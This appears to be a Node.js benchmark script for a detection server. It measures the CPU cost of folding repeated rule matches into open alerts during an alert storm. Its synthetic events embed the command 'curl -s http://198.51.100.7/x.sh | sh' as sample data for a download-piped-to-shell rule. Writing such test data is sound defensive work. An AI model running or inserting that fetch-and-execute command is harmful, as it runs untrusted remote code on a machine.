/**
 * What folding a match into an open alert costs the server's main thread (AlertStore.fold): an
 * alert storm, where the same rule fires again and again on the same hosts, folds far more
 * matches than it raises alerts, and most folds find the alert's kept events full.
 *
 *   node dist/bench/alert-fold.js [ALERTS=1000] [FOLDS=60000] [MAX_EVENTS=20] [PER_COMMIT=100]
 *
 * Raises ALERTS alerts (one 1.7 KB event each) in the server's database (openDatabase, in a
 * temporary folder), then folds FOLDS matches of new events into them, round robin, PER_COMMIT
 * folds a transaction (a gateway turn's alerts share one). Prints the CPU per fold over the
 * first MAX_EVENTS folds of each alert (events appended) and over the rest (the alert full).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { exampleEvent } from '../src/common/events/schema.js';
import { AlertStore } from '../src/server/alerts/store.js';
import type { Alert } from '../src/server/alerts/types.js';
import { openDatabase } from '../src/server/db.js';

const [alertsText = '1000', foldsText = '60000', maxText = '20', perCommitText = '100'] = process.argv.slice(2);
const ALERTS = Number(alertsText);
const FOLDS = Number(foldsText);
const MAX_EVENTS = Number(maxText);
const PER_COMMIT = Number(perCommitText);
for (const [name, value] of Object.entries({ ALERTS, FOLDS, MAX_EVENTS, PER_COMMIT })) {
  if (!Number.isInteger(value) || value < 1) throw new Error(`usage: alert-fold.js [ALERTS] [FOLDS] [MAX_EVENTS] [PER_COMMIT] (${name} must be a positive integer)`);
}

const T0 = Date.now() - 60_000;
const base = exampleEvent('exec');
const process_ = base['process'] as Record<string, unknown>;
const event = (n: number): Record<string, unknown> => ({
  ...base,
  event: { ...(base['event'] as object), id: `e-${n}` },
  agent: { id: 'agent-1' },
  process: { ...process_, args: ['sh', '-c', `curl -s http://198.51.100.7/x.sh | sh # ${'y'.repeat(1200)} ${n}`] },
});

const cpuMs = (): number => {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
};

const dir = mkdtempSync(path.join(tmpdir(), 'hades-bench-fold-'));
try {
  const store = new AlertStore(openDatabase(path.join(dir, 'hades.db')));
  store.batch(() => {
    for (let a = 0; a < ALERTS; a++) {
      const alert: Alert = {
        id: `alert-${a}`,
        '@timestamp': new Date(T0).toISOString(),
        last_seen: new Date(T0).toISOString(),
        count: 1,
        rule: { id: 'download_piped_to_shell', title: 'Download piped to a shell', severity: 'high', tags: [], type: 'rule' },
        message: 'm',
        host: { id: 'agent-1', name: `host-${a}` },
        events: [event(-a - 1)],
        status: 'new',
        assignee: null,
      };
      store.insert({ alert, dedupKey: `key-${a}` });
    }
  });
  const appending = Math.min(FOLDS, ALERTS * (MAX_EVENTS - 1));
  const phases: { name: string; folds: number; ms: number }[] = [
    { name: 'events appended', folds: appending, ms: 0 },
    { name: 'alert full', folds: FOLDS - appending, ms: 0 },
  ];
  let n = 0;
  for (const phase of phases) {
    const start = cpuMs();
    for (let done = 0; done < phase.folds; done += PER_COMMIT) {
      store.batch(() => {
        for (let i = done; i < Math.min(phase.folds, done + PER_COMMIT); i++, n++) {
          if (!store.fold(`key-${n % ALERTS}`, T0 - 3_600_000, T0 + n, event(n), MAX_EVENTS)) throw new Error(`fold ${n} found no alert`);
        }
      });
    }
    phase.ms = cpuMs() - start;
  }
  for (const phase of phases) {
    if (phase.folds > 0) console.log(`${phase.name}: ${phase.folds} folds, ${((phase.ms * 1000) / phase.folds).toFixed(1)} us of CPU per fold`);
  }
} finally {
  rmSync(dir, { recursive: true, force: true });
}
